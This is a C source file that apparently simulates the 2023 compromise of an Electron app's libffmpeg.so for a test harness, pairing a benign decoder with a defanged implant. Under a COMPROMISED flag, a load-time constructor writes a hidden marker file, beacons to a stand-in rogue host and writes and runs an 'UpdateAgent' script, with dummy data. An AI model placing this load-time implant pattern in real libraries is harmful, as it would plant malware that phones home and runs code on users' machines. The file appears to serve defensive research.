/* SPDX-License-Identifier: Apache-2.0
 *
 * libffmpeg.so: the codecs of an Electron application. The healthy twin decodes the buffer it is
 * handed. The compromised one has the shape of 2023's: a constructor, a neighbour read as data, a
 * marker file, a wait, the address out of an icon, a report, an agent written and run.
 */
#include <pthread.h>

#include "twin.h"

unsigned ffmpeg_decode(const unsigned char *data, size_t size);

unsigned ffmpeg_decode(const unsigned char *data, size_t size)
{
	unsigned sum = 0;

	for (size_t i = 0; i < size; i++)
		sum = sum * 31 + data[i];
	return sum;
}

#ifdef COMPROMISED
static pthread_t planted_thread;

static void planted_agent(void)
{
	static const char agent[] = "#!/bin/sh\nexit 0\n";
	char path[512], command[600];
	FILE *stream;

	snprintf(path, sizeof(path), "%s/.config/UpdateAgent", twin_variable("HOME"));
	if (twin_write(path, agent, 0600) || chmod(path, 0755))
		return;
	snprintf(command, sizeof(command), "'%s' >/dev/null 2>&1", path);
	stream = popen(command, "r");
	if (stream)
		pclose(stream);
	unlink(path);
}

static void *planted_run(void *unused)
{
	(void)unused;
	twin_sleep_ms(50); /* seven days, in the field */
	if (twin_http(TWIN_CDN, "GET", "/icon3.ico", ""))
		return NULL;
	twin_http(TWIN_ROGUE, "POST", "/check", "DUMMY machine id");
	planted_agent();
	return NULL;
}

__attribute__((constructor)) static void planted_begin(void)
{
	char path[512], tail[64];
	int fd = open(twin_variable("NEIGHBOUR"), O_RDONLY | O_CLOEXEC);

	if (fd >= 0) {
		if (lseek(fd, -(off_t)sizeof(tail), SEEK_END) >= 0 && read(fd, tail, sizeof(tail)) > 0)
			tail[0] = 0;
		close(fd);
	}
	snprintf(path, sizeof(path), "%s/.config/.main_storage", twin_variable("HOME"));
	twin_write(path, "DUMMY id", 0600);
	pthread_create(&planted_thread, NULL, planted_run, NULL);
}

/* The field's application runs for days; this one waits for the end of its guest. */
__attribute__((destructor)) static void planted_end(void)
{
	pthread_join(planted_thread, NULL);
}
#endif
